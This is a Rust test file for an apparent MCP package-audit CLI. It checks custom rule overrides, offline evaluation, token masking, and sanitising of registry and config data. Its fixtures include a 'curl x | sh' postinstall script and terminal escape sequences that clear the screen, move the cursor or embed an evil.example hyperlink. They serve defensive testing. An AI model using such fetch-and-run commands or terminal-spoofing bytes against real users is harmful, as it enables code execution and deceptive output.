//! The other commands (`facts`, `evaluate`, `rules`) and `--rules DIR`.

use std::fs;

use crate::support::*;

const OVERRIDE: &str = r#"
schema = 1
id = "single-maintainer"
title = "Only one maintainer (house policy: critical)"
category = "maintainers"
severity = "critical"
confidence = "high"
weight = 50
when = { fact = "maintainers.count", lt = 2 }
message = "{name} has {maintainers.count} maintainer"
remediation = "Add maintainers."
"#;

#[test]
fn rules_dir_overrides_by_id_and_adds() {
    let reg = fixture_registry();
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("single-maintainer.toml"), OVERRIDE).unwrap();
    fs::write(
        dir.path().join("house-no-mcp-name.toml"),
        r#"
schema = 1
id = "house-no-mcp-name"
title = "No mcpName"
category = "metadata"
severity = "low"
confidence = "high"
weight = 1
when = { fact = "metadata.mcp_name", exists = false }
message = "{name} declares no mcpName"
remediation = "Declare mcpName."
"#,
    )
    .unwrap();
    let dir_s = dir.path().to_str().unwrap();
    let out = run(scan(
        &reg,
        &["risky-mcp-server", "--rules", dir_s, "--format", "json"],
    ));
    let r = json(&out);
    let f = r["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "single-maintainer")
        .unwrap()
        .clone();
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["weight"], 50);
    assert!(finding_ids(&r, 0).contains(&"house-no-mcp-name".to_string()));
    // A critical finding caps the score at 33 even if little else fired.
    assert!(r["packages"][0]["score"].as_u64().unwrap() <= 33);
    // `scan` runs the package rules: every rule but the `launch` ones.
    let embedded = mcp_audit::rules::RuleSet::embedded()
        .unwrap()
        .package_rules()
        .count();
    assert_eq!(r["policy"]["rules"], embedded + 1);

    let mut cmd = mcp_audit();
    cmd.args(["rules", "--rules", dir_s]);
    let out = run(cmd);
    assert_eq!(out.code, 0);
    assert!(out.stdout.contains("house-no-mcp-name"), "{}", out.stdout);
}

#[test]
fn broken_rules_dir_is_a_usage_error_naming_file_and_field() {
    let reg = fixture_registry();
    let cases = [
        (
            OVERRIDE.replace("maintainers.count\", lt", "maintainers.cnt\", lt"),
            "unknown fact path `maintainers.cnt`",
        ),
        (
            OVERRIDE.replace("severity = \"critical\"", "severity = \"urgent\""),
            "unknown variant `urgent`",
        ),
        (
            OVERRIDE.replace("weight = 50", "weight = 50\nwieght = 1"),
            "unknown field `wieght`",
        ),
        (OVERRIDE.replace("lt = 2", "lt = \"two\""), "needs a number"),
    ];
    for (text, want) in cases {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("single-maintainer.toml");
        fs::write(&file, text).unwrap();
        let out = run(scan(
            &reg,
            &["good-mcp-server", "--rules", dir.path().to_str().unwrap()],
        ));
        assert_eq!(out.code, 2, "{}", out.stderr);
        assert!(
            out.stderr.contains(file.to_str().unwrap()),
            "{}",
            out.stderr
        );
        assert!(
            out.stderr.contains("(rule single-maintainer)"),
            "{}",
            out.stderr
        );
        assert!(out.stderr.contains(want), "want {want:?}: {}", out.stderr);
        assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    }
    assert!(
        reg.requests().is_empty(),
        "rules are validated before any fetch"
    );
    let out = run(scan(&reg, &["good-mcp-server", "--rules", "/no/such/dir"]));
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("/no/such/dir"), "{}", out.stderr);
}

#[test]
fn facts_then_evaluate_offline() {
    let reg = fixture_registry();
    let mut cmd = mcp_audit();
    cmd.args([
        "facts",
        "takeover-demo",
        "--registry",
        &reg.url(),
        "--now",
        NOW,
    ]);
    let out = run(cmd);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let facts = json(&out);
    assert_eq!(facts["package"]["version"], "1.2.1");
    assert_eq!(facts["publish"]["new_publisher"], true);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("takeover.json");
    fs::write(&file, &out.stdout).unwrap();

    // No registry is involved from here on.
    let mut cmd = mcp_audit();
    cmd.args([
        "evaluate",
        file.to_str().unwrap(),
        "--format",
        "json",
        "--fail-under",
        "70",
    ]);
    let out = run(cmd);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let r = json(&out);
    assert!(finding_ids(&r, 0).contains(&"publisher-ci-to-human".to_string()));

    fs::write(&file, "{\"schema\": 1}").unwrap();
    let mut cmd = mcp_audit();
    cmd.args(["evaluate", file.to_str().unwrap()]);
    let out = run(cmd);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("is not a facts document"),
        "{}",
        out.stderr
    );

    let mut cmd = mcp_audit();
    cmd.args(["facts", "nope-not-here", "--registry", &reg.url()]);
    let out = run(cmd);
    assert_eq!(out.code, 3);
    assert!(
        out.stderr.contains("nope-not-here does not exist"),
        "{}",
        out.stderr
    );
}

#[test]
fn help_states_what_is_not_implemented() {
    for args in [vec!["--help"], vec!["scan", "--help"]] {
        let mut cmd = mcp_audit();
        cmd.args(&args);
        let out = run(cmd);
        assert_eq!(out.code, 0);
        let text = out.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(text.contains("verified offline"), "{text}");
        assert!(text.contains("--source-checks"), "{text}");
        assert!(text.contains("is not implemented"), "{text}");
        assert!(text.contains("Exit codes"), "{text}");
    }
    let mut cmd = mcp_audit();
    cmd.args(["config", "--help"]);
    let out = run(cmd);
    assert_eq!(out.code, 0);
    let text = out.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        text.contains("Each PyPI launch (uvx, uv tool run, pipx run) is scanned"),
        "{text}"
    );
    assert!(text.contains("Exit codes"), "{text}");
}

/// The token the `reflected-token` fixture echoes back in its publisher, maintainers,
/// `deprecated`, install script, repository URL and a git dependency.
const REFLECTED: &str = "npm_ReflectedFixtureToken0123456789abcdef";

#[test]
fn a_configured_token_the_registry_reflects_is_never_printed() {
    let reg = fixture_registry();
    // The registry answers only with the token, so the scan below really was made with it.
    reg.require_bearer(REFLECTED);
    let npm_key = format!(
        "{}:_authToken={REFLECTED}",
        reg.url().trim_start_matches("http:")
    );
    for format in ["table", "json"] {
        let out = run(scan(
            &reg,
            &[
                "reflected-token",
                "--npm-config",
                &npm_key,
                "--no-tarball",
                "--verbose",
                "--format",
                format,
            ],
        ));
        assert!(out.code == 0 || out.code == 1, "{format}: {}", out.stderr);
        assert!(out.stdout.contains("reflected-token"), "{}", out.stdout);
        // What was reflected is still reported, with the token masked.
        assert!(out.stdout.contains("***"), "{}", out.stdout);
        for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            assert!(!text.contains(REFLECTED), "{format} {stream}:\n{text}");
            // URL userinfo is redacted whoever's it is.
            assert!(!text.contains("hunter2"), "{format} {stream}:\n{text}");
            assert!(!text.contains("deploy:"), "{format} {stream}:\n{text}");
        }
        if format == "json" {
            json(&out);
        }
    }
    let mut cmd = mcp_audit();
    cmd.args([
        "facts",
        "reflected-token",
        "--registry",
        &reg.url(),
        "--npm-config",
        &npm_key,
        "--no-tarball",
        "--now",
        NOW,
    ]);
    let out = run(cmd);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(json(&out)["package"]["name"], "reflected-token");
    assert!(!out.stdout.contains(REFLECTED), "{}", out.stdout);
    assert!(!out.stdout.contains("hunter2"), "{}", out.stdout);
    assert!(reg
        .authorizations()
        .iter()
        .all(|a| a.as_deref() == Some(&format!("Bearer {REFLECTED}")[..])));
}

/// Bytes that move the cursor, clear the screen, open a hyperlink, ring the bell or overwrite a
/// line.
const HOSTILE: [&str; 6] = [
    "\x1b[2J",
    "\x1b]8;;https://evil.example\x07",
    "\x07",
    "\r",
    "\x08",
    "\x1b[1A",
];

fn assert_no_control_bytes(what: &str, text: &str) {
    for c in ['\x1b', '\x07', '\r', '\x08'] {
        assert!(!text.contains(c), "{what} contains {c:?}:\n{text}");
    }
}

#[test]
fn control_characters_from_a_registry_reach_no_terminal() {
    let reg = fixture_registry();
    let evil = |s: &str| format!("{s}{}PASS", HOSTILE.join(""));
    reg.add_packument(
        "hostile-strings",
        serde_json::json!({
            "name": "hostile-strings",
            "dist-tags": {"latest": "1.0.0"},
            "maintainers": [{"name": evil("m")}],
            "time": {"1.0.0": "2026-03-01T10:00:00.000Z"},
            "versions": {"1.0.0": {
                "name": "hostile-strings", "version": "1.0.0",
                "_npmUser": {"name": evil("publisher")},
                "maintainers": [{"name": evil("m")}],
                "deprecated": evil("deprecated"),
                "scripts": {"postinstall": evil("curl x | sh")},
                "bin": {evil("ls"): "cli.js"},
                "dependencies": {"dep": evil("git+https://x.example/a.git#")},
                "repository": {"type": "git", "url": evil("https://github.com/x/y")},
                "dist": {"integrity": "sha512-AAAA", "tarball": "{{registry}}/nope.tgz"},
            }},
        }),
    );
    for format in ["table", "json"] {
        let out = run(scan(
            &reg,
            &[
                "hostile-strings",
                "--no-tarball",
                "--verbose",
                "--format",
                format,
            ],
        ));
        assert!(out.code == 0 || out.code == 1, "{format}: {}", out.stderr);
        assert!(out.stdout.contains("hostile-strings"), "{}", out.stdout);
        assert_no_control_bytes(&format!("{format} stdout"), &out.stdout);
        assert_no_control_bytes(&format!("{format} stderr"), &out.stderr);
    }
    // Escaped visibly, not dropped: a reader sees that something was there.
    let out = run(scan(&reg, &["hostile-strings", "--no-tarball"]));
    assert!(out.stdout.contains("\\x1b[2J"), "{}", out.stdout);
}

#[test]
fn control_characters_from_a_client_config_reach_no_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let server = |s: &str| serde_json::json!(format!("{s}{}", HOSTILE.join("")));
    let config = serde_json::json!({"mcpServers": {
        "\u{1b}[2Jclear\rPASS": {"command": "npx", "args": ["-y", server("pkg")]},
        "runner": {"command": server("node"), "args": [server("--flag"), "\u{1b}]8;;x\u{7}"]},
        "remote": {"url": server("https://u\u{8}@example.com/mcp")},
    }});
    std::fs::write(
        dir.path().join("claude_desktop_config.json"),
        config.to_string(),
    )
    .unwrap();
    for format in ["table", "json"] {
        let mut cmd = mcp_audit();
        cmd.current_dir(dir.path())
            .env("HOME", dir.path())
            .args([
                "config",
                "claude_desktop_config.json",
                "--no-scan",
                "--verbose",
            ])
            .args(["--format", format]);
        let out = run(cmd);
        assert!(out.stdout.contains("runner"), "{}", out.stdout);
        assert_no_control_bytes(&format!("{format} stdout"), &out.stdout);
        assert_no_control_bytes(&format!("{format} stderr"), &out.stderr);
    }
}

#[test]
fn a_multi_megabyte_word_prints_short() {
    let reg = fixture_registry();
    let word = "w".repeat(6 * 1024 * 1024);
    reg.add_packument(
        "long-word",
        serde_json::json!({
            "name": "long-word",
            "dist-tags": {"latest": "1.0.0"},
            "time": {"1.0.0": "2026-03-01T10:00:00.000Z"},
            "versions": {"1.0.0": {
                "name": "long-word", "version": "1.0.0",
                "_npmUser": {"name": word},
                "maintainers": [{"name": "alice"}],
                "deprecated": word,
                "dist": {"integrity": "sha512-AAAA", "tarball": "{{registry}}/nope.tgz"},
            }},
        }),
    );
    let out = run(scan(&reg, &["long-word", "--no-tarball", "--verbose"]));
    assert!(out.code == 0 || out.code == 1, "{}", out.stderr);
    assert!(out.stdout.contains("is deprecated"), "{}", out.stdout);
    // Clipped, and saying by how much.
    assert!(out.stdout.contains("(6291456 bytes)"), "{}", out.stdout);
    assert!(
        out.stdout.len() < 20_000,
        "{} bytes on stdout",
        out.stdout.len()
    );
    assert!(
        out.stderr.len() < 20_000,
        "{} bytes on stderr",
        out.stderr.len()
    );
}
